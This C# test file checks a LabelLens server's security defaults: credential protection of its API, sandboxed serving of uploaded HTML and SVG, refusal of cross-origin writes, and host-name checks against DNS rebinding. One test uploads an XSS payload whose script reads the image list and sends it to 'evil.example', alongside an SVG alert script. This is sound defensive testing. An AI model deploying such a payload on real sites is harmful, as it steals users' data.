using System.Net;
using System.Net.Http.Headers;
using System.Text;

namespace LabelLens.Tests;

/// <summary>
/// Secure by default (issue 16, items 12-14): credentials protect every interface they claim to protect, what
/// is served from the UI's origin cannot script it, and other sites cannot write through the user's browser.
/// </summary>
public sealed class SecurityTests
{
    private const string AccessKey = "SECACCESSKEY0001";
    private const string SecretKey = "sec/secret+key/0123456789";

    [Fact]
    public async Task S3_key_pairs_alone_protect_the_rest_api_which_takes_the_secret_as_bearer_or_the_pair_as_basic()
    {
        await using var server = await StartAsync(new()
        {
            ["Server:S3Port"] = "-1",
            ["Server:S3Credentials:0:AccessKey"] = AccessKey,
            ["Server:S3Credentials:0:SecretKey"] = SecretKey,
        });
        var client = server.Client;

        using (var open = await client.GetAsync("/api/v1/images"))
        {
            Assert.Equal(HttpStatusCode.Unauthorized, open.StatusCode);
        }

        using (var delete = await client.DeleteAsync("/api/v1/buckets/photos/objects/x.jpg"))
        {
            Assert.Equal(HttpStatusCode.Unauthorized, delete.StatusCode);
        }

        Assert.Equal(HttpStatusCode.OK, await StatusAsync(client, new AuthenticationHeaderValue("Bearer", SecretKey)));
        Assert.Equal(HttpStatusCode.OK, await StatusAsync(client, Basic(AccessKey, SecretKey)));
        Assert.Equal(HttpStatusCode.Unauthorized, await StatusAsync(client, Basic(AccessKey, SecretKey + "x")));
        Assert.Equal(HttpStatusCode.Unauthorized, await StatusAsync(client, Basic("OTHER", SecretKey)));
        // The access key is public (it is in every signed request): it is not a credential by itself.
        Assert.Equal(HttpStatusCode.Unauthorized, await StatusAsync(client, new AuthenticationHeaderValue("Bearer", AccessKey)));

        // Health stays open for load balancers.
        using var health = await client.GetAsync("/healthz");
        Assert.Equal(HttpStatusCode.OK, health.StatusCode);
    }

    [Fact]
    public async Task Uploaded_html_and_svg_download_as_attachments_in_a_sandbox_and_pictures_display_inertly()
    {
        await using var server = await StartAsync([]);
        var html = "<html><script>fetch('/api/v1/images').then(r => r.text()).then(t => new Image().src = 'https://evil.example/?' + t)</script></html>"u8.ToArray();
        await server.UploadAsync("xss-test", "page.html", html, "text/html");
        await server.UploadAsync("xss-test", "logo.svg", "<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>"u8.ToArray(), "image/svg+xml");
        await server.UploadAsync("xss-test", "dog.jpg", TestData.ImageBytes("dog.jpg"), "image/jpeg");

        foreach (var (key, attachment) in new[] { ("page.html", true), ("logo.svg", true), ("dog.jpg", false) })
        {
            using var response = await server.Client.GetAsync($"/api/v1/buckets/xss-test/objects/{key}");
            Assert.Equal(HttpStatusCode.OK, response.StatusCode);
            Assert.Equal("nosniff", Assert.Single(response.Headers.GetValues("X-Content-Type-Options")));
            var policy = Assert.Single(response.Headers.GetValues("Content-Security-Policy"));
            Assert.Contains("sandbox", policy, StringComparison.Ordinal);
            Assert.Contains("default-src 'none'", policy, StringComparison.Ordinal);
            Assert.Equal(attachment, response.Content.Headers.ContentDisposition?.DispositionType == "attachment");
            if (attachment)
            {
                Assert.Equal(key, response.Content.Headers.ContentDisposition!.FileNameStar);
            }
        }
    }

    [Fact]
    public async Task Writes_from_another_origin_are_refused_and_the_page_own_origin_and_non_browser_clients_are_not()
    {
        await using var server = await StartAsync([]);
        var origin = server.Client.BaseAddress!.GetLeftPart(UriPartial.Authority);

        Assert.Equal(HttpStatusCode.Forbidden, await PutAsync(server, "evil.jpg", ("Origin", "https://evil.example")));
        Assert.Equal(HttpStatusCode.Forbidden, await PutAsync(server, "null.jpg", ("Origin", "null")));
        Assert.Equal(HttpStatusCode.Forbidden, await PutAsync(server, "site.jpg", ("Sec-Fetch-Site", "cross-site")));
        Assert.Equal(HttpStatusCode.Created, await PutAsync(server, "own.jpg", ("Origin", origin), ("Sec-Fetch-Site", "same-origin")));
        Assert.Equal(HttpStatusCode.Created, await PutAsync(server, "curl.jpg"));

        // A cross-origin read is the browser's business (CORS): only writes are refused here.
        using var read = new HttpRequestMessage(HttpMethod.Get, "/api/v1/images");
        read.Headers.Add("Origin", "https://evil.example");
        using var answer = await server.Client.SendAsync(read);
        Assert.Equal(HttpStatusCode.OK, answer.StatusCode);
        Assert.False(answer.Headers.Contains("Access-Control-Allow-Origin"));
    }

    [Fact]
    public async Task On_loopback_only_loopback_host_names_are_answered_against_dns_rebinding()
    {
        await using var server = await StartAsync([]);
        var port = server.Client.BaseAddress!.Port;
        foreach (var (host, expected) in new[] { ($"evil.example:{port}", HttpStatusCode.BadRequest), ($"localhost:{port}", HttpStatusCode.OK), ($"127.0.0.1:{port}", HttpStatusCode.OK) })
        {
            using var request = new HttpRequestMessage(HttpMethod.Get, "/api/v1/queue");
            request.Headers.Host = host;
            using var response = await server.Client.SendAsync(request);
            Assert.True(expected == response.StatusCode, $"Host {host}: {response.StatusCode}");
        }

        // Configured names are accepted besides.
        await using var named = await StartAsync(new() { ["Server:AllowedHosts:0"] = "labellens.example" });
        using var byName = new HttpRequestMessage(HttpMethod.Get, "/api/v1/queue");
        byName.Headers.Host = $"labellens.example:{named.Client.BaseAddress!.Port}";
        using var accepted = await named.Client.SendAsync(byName);
        Assert.Equal(HttpStatusCode.OK, accepted.StatusCode);
    }

    private static async Task<AsyncServer> StartAsync(Dictionary<string, string?> settings)
    {
        var server = new ServerFixture(settings);
        await server.InitializeAsync();
        return new AsyncServer(server);
    }

    private static async Task<HttpStatusCode> StatusAsync(HttpClient client, AuthenticationHeaderValue authorization)
    {
        using var request = new HttpRequestMessage(HttpMethod.Get, "/api/v1/images");
        request.Headers.Authorization = authorization;
        using var response = await client.SendAsync(request);
        return response.StatusCode;
    }

    private static AuthenticationHeaderValue Basic(string user, string password) =>
        new("Basic", Convert.ToBase64String(Encoding.UTF8.GetBytes($"{user}:{password}")));

    private static async Task<HttpStatusCode> PutAsync(AsyncServer server, string key, params (string Name, string Value)[] headers)
    {
        using var request = new HttpRequestMessage(HttpMethod.Put, $"/api/v1/buckets/origin-test/objects/{key}") { Content = new ByteArrayContent(TestData.ImageBytes("dog.jpg")) };
        foreach (var (name, value) in headers)
        {
            request.Headers.Add(name, value);
        }

        using var response = await server.Client.SendAsync(request);
        return response.StatusCode;
    }

    /// <summary>A server for one test, disposed with `await using`.</summary>
    private sealed class AsyncServer(ServerFixture fixture) : IAsyncDisposable
    {
        /// <summary>A client with no credentials of its own (the fixture's sends the S3 secret).</summary>
        public HttpClient Client { get; } = new() { BaseAddress = fixture.Client.BaseAddress };

        public Task<System.Text.Json.JsonElement> UploadAsync(string bucket, string key, byte[] content, string contentType) => fixture.UploadAsync(bucket, key, content, contentType);

        public async ValueTask DisposeAsync()
        {
            Client.Dispose();
            await fixture.DisposeAsync();
        }
    }
}
